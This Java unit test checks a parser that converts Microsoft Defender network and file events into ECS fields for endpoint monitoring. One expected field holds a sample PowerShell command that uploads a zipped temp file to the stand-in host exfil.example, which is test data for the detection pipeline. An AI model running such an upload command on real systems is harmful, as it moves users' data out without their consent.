package io.packwatch.endpoint.parse;

import static io.packwatch.endpoint.parse.Samples.assertEvent;
import static io.packwatch.endpoint.parse.Samples.assertFields;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import io.packwatch.endpoint.Ecs;
import io.packwatch.endpoint.EndpointEvent;
import io.packwatch.stats.Counters;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Defender's DeviceNetworkEvents map to the fields Sysmon's EID 3 gives (the side that opened the
 * connection is the source; the initiating process is the process), and DeviceFileEvents carry the size.
 */
class MdeNetworkParseTest {
    private final Counters counters = new Counters();
    private final List<EndpointEvent> events = Samples.parseFile("mde-network.txt", counters);

    @Test
    void outboundConnectionNamesTheProcessThatOpenedIt() {
        assertEquals(5, events.size());
        EndpointEvent e = events.get(0);
        assertEvent(e, "2023-11-14T22:13:25.431Z", "windows", "network_connection", "mde");
        assertFields(e, Ecs.EVENT_CODE, "DeviceNetworkEvents", Ecs.EVENT_ACTION, "ConnectionSuccess",
                Ecs.HOST_NAME, "ws01.corp.example", Ecs.HOST_IP, "10.1.0.5",
                Ecs.SOURCE_IP, "10.1.0.5", Ecs.SOURCE_PORT, "49852",
                Ecs.DESTINATION_IP, "203.0.113.10", Ecs.DESTINATION_PORT, "443", Ecs.DESTINATION_DOMAIN, "exfil.example",
                Ecs.NETWORK_TRANSPORT, "tcp", Ecs.NETWORK_DIRECTION, "egress",
                Ecs.PROCESS_NAME, "powershell.exe",
                Ecs.PROCESS_EXECUTABLE, "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
                Ecs.PROCESS_PID, "7020",
                Ecs.PROCESS_COMMAND_LINE, "powershell.exe -NoProfile -Command \"Invoke-WebRequest -Uri"
                        + " https://exfil.example/upload -Method Post -InFile $env:TEMP\\q3.zip\"",
                Ecs.PROCESS_HASH_SHA256, "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f",
                Ecs.PARENT_NAME, "explorer.exe", Ecs.PARENT_PID, "5128", Ecs.USER_NAME, "alice", Ecs.USER_DOMAIN, "corp");
    }

    @Test
    void ipv4MappedAddressesBecomePlainIpv4() {
        EndpointEvent e = events.get(1);
        assertEvent(e, "2023-11-14T22:13:30.117Z", "windows", "network_connection", "mde");
        assertFields(e, Ecs.EVENT_ACTION, "ConnectionAttempt", Ecs.SOURCE_IP, "10.1.0.5", Ecs.HOST_IP, "10.1.0.5",
                Ecs.SOURCE_PORT, "49861", Ecs.DESTINATION_IP, "198.51.100.7", Ecs.DESTINATION_PORT, "8080",
                Ecs.PROCESS_NAME, "python.exe", Ecs.PROCESS_PID, "7188", Ecs.PARENT_NAME, "cmd.exe");
        assertNull(e.get(Ecs.DESTINATION_DOMAIN), "an empty RemoteUrl is no domain");
    }

    @Test
    void inboundConnectionHasThePeerAsSource() {
        EndpointEvent e = events.get(2);
        assertEvent(e, "2023-11-14T22:13:32.900Z", "windows", "network_connection", "mde");
        assertFields(e, Ecs.EVENT_ACTION, "InboundConnectionAccepted", Ecs.SOURCE_IP, "10.1.0.99",
                Ecs.SOURCE_PORT, "51200", Ecs.DESTINATION_IP, "10.1.0.5", Ecs.DESTINATION_PORT, "3389",
                Ecs.HOST_IP, "10.1.0.5", Ecs.NETWORK_DIRECTION, "ingress", Ecs.PROCESS_NAME, "svchost.exe",
                Ecs.PROCESS_PID, "1104", Ecs.USER_NAME, "network service");
    }

    @Test
    void aListeningSocketIsNoConnection() {
        EndpointEvent e = events.get(3);
        assertEvent(e, "2023-11-14T22:13:33.500Z", "windows", "other", "mde");
        assertFields(e, Ecs.EVENT_ACTION, "ListeningConnectionCreated", Ecs.SOURCE_PORT, "8000",
                Ecs.PROCESS_NAME, "python.exe");
        assertNull(e.get(Ecs.SOURCE_IP), "0.0.0.0 is a wildcard bind, not an address of the host");
        assertNull(e.get(Ecs.HOST_IP));
        assertNull(e.get(Ecs.DESTINATION_IP));
    }

    @Test
    void fileEventCarriesSizeAndHashes() {
        EndpointEvent e = events.get(4);
        assertEvent(e, "2023-11-14T22:13:24.900Z", "windows", "file_event", "mde");
        assertFields(e, Ecs.EVENT_ACTION, "FileCreated", Ecs.FILE_NAME, "q3.zip",
                Ecs.FILE_PATH, "C:\\Users\\alice\\AppData\\Local\\Temp\\q3.zip", Ecs.FILE_SIZE, "48211",
                Ecs.FILE_HASH_SHA256, "0e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100ff",
                Ecs.FILE_HASH_SHA1, "4f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6",
                Ecs.FILE_HASH_MD5, "a1b2c3d4e5f60718293a4b5c6d7e8f90",
                Ecs.PROCESS_NAME, "powershell.exe", Ecs.PROCESS_PID, "7020");
        assertEquals(5, counters.get("endpoint.parsed.mde"));
    }
}
